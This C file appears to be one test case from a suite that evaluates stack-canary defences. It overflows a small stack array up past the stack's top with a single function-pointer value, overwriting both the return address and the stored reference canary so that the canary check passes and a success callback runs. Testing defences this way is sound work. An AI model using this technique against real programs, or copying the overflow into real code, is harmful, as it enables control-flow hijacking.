/* SPDX-License-Identifier: BSD-2-Clause */
/* attack: CANARY_TLS_OVERWRITE */
/* adversary: A1 */
/*
 * A long overflow that runs up to the end of the stack and beyond, with one value: where the reference
 * canary lies above the stack, array and reference become equal and the check is passed.
 */
#include "attack.h"

/* From the array to a page past the stack's top: the arguments stand at the top. */
static size_t words_to_top(const volatile uintptr_t *from, char **argv)
{
	return ((uintptr_t)argv - (uintptr_t)from) / sizeof(uintptr_t) + 512;
}

__attribute__((used)) static void reached(void)
{
	attack_succeeded();
}

/* Entered by a return, so with a stack that is not aligned as after a call. */
static __attribute__((naked)) void elsewhere(void)
{
	__asm__("andq $-16, %%rsp\n\tcall %c0" : : "i"(reached));
}

static __attribute__((noinline)) void fill(volatile uintptr_t *to, uintptr_t value, size_t words)
{
	for (size_t i = 0; i < words; i++)
		to[i] = value;
}

static __attribute__((noinline)) void victim(char **argv, volatile int is_attack)
{
	volatile uintptr_t array[2];
	uintptr_t value = (uintptr_t)attack_launder((const void *)elsewhere);

	fill(array, value, is_attack ? words_to_top(array, argv) : 2);
}

int main(int argc, char **argv)
{
	(void)argc;
	victim(argv, 0);
	attack_control_ok();
	victim(argv, 1);
	return 0;
}
